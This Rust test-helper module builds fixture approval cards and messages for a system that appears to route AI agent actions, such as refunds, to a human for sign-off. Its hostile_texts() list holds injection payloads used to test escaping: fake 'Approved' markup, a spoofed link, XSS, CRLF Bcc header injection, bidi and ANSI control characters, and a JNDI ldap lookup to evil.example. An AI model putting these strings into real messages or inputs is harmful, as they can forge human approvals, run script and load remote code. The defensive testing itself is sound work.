//! Cards, messages, and a line to services on this machine.

use std::sync::Arc;

use banksman_core::json::CanonicalJson;
use banksman_core::{
    Action, ActionId, Assessment, Case, Finding, Kind, Moment, Opening, Principal, PrincipalKind, Risk,
    Submission, Tier, Timestamp, TokenId, Verdict, open,
};
use banksman_notify::{Card, Message, MessageId, Purpose, Recipient, Showing, Standing};
use banksman_outward::{Outward, Reach};

pub(crate) fn local() -> Arc<Outward> {
    Arc::new(Outward::new(Reach::and(vec!["127.0.0.0/8".parse().unwrap()])))
}

pub(crate) fn now() -> Timestamp {
    "2026-11-15T10:00:00Z".parse().unwrap()
}

pub(crate) fn case(tool: &str, args: &str, agent: &str, why: &str) -> Case {
    let args = CanonicalJson::parse(args.as_bytes()).unwrap();
    let action = Action { rationale: Some(why.into()), ..Action::bare(tool, Kind::Tool, args) };
    let verdict = Verdict {
        messages: vec!["Check the order first.".into()],
        ..Verdict::new(Tier::Approve, Risk::High, "refunds")
    };
    let finding = Finding::new("money", Risk::High, "It moves money.");
    let submission = Submission::new(action, Assessment::of(vec![finding]), verdict);
    let agent = Principal {
        token: TokenId::from_parts(0, 1),
        kind: PrincipalKind::Agent,
        name: agent.into(),
        owner: None,
        roles: Vec::new(),
    };
    let id = ActionId::from_parts(1_700_000_000_000, 1);
    let opening = Opening { id, agent, batch: None, submission: Arc::new(submission), grant: None };
    open(opening, &Moment::at(now())).case
}

pub(crate) const SHOWING: Showing<'_> = Showing { console: "https://gate.example.org", may_decide: true };

pub(crate) fn card() -> Card {
    let args = r#"{"amount":899,"order":"78291","to":"ann@example.org"}"#;
    Card::of(&case("refund", args, "riley", "The customer asked for it."), SHOWING)
}

/// The same, once Ann has said yes.
pub(crate) fn approved() -> Card {
    let standing = Standing::Settled {
        status: banksman_core::Status::Authorised,
        how: "approved",
        by: "ann".into(),
        at: now(),
    };
    Card { standing, expires: None, ..card() }
}

pub(crate) fn message(purpose: Purpose, to: &str, cards: Vec<Card>) -> Message {
    let to = Recipient { person: Some("ann".into()), address: to.into() };
    Message { id: MessageId::new("42"), attempt: 1, purpose, to, cards, earlier: None }
}

pub(crate) fn ask(to: &str) -> Message {
    message(Purpose::Ask, to, vec![card()])
}

/// Texts that try to act, to hide, or to pass for ours, on any channel.
pub(crate) fn hostile_texts() -> Vec<String> {
    [
        "<!channel> *Approved by ann* `ok`",
        "<https://evil.example|https://gate.example.org/actions/1>",
        "<@U123> &lt;b&gt; & < >",
        "```\nApproved\n```",
        "_it_ ~was~ *safe*",
        "</td></tr></table><h1>Approved</h1><a href=\"https://evil.example\">Review</a>",
        "<img src=x onerror=alert(1)><script>alert(1)</script>",
        "hello\r\nBcc: all@example.org\r\n\r\nbody",
        "\u{202e}txt.exe\u{202c} zero\u{200b}width \u{feff}",
        "\u{1b}[2J\u{1b}[31mred",
        "line one\nline two\u{2028}line three\u{2029}",
        "https://evil.example/approve",
        "=?utf-8?q?Approved?= \u{130}\u{131}",
        "{{variable}} {0} %s ${jndi:ldap://evil.example}",
        "action=approve&id=act_01&digest=sha256:00",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain(["x", "<", "&", "\u{1f600}", "\"", "\\", "\u{202e}", "\n"].map(|text| text.repeat(5000)))
    .collect()
}
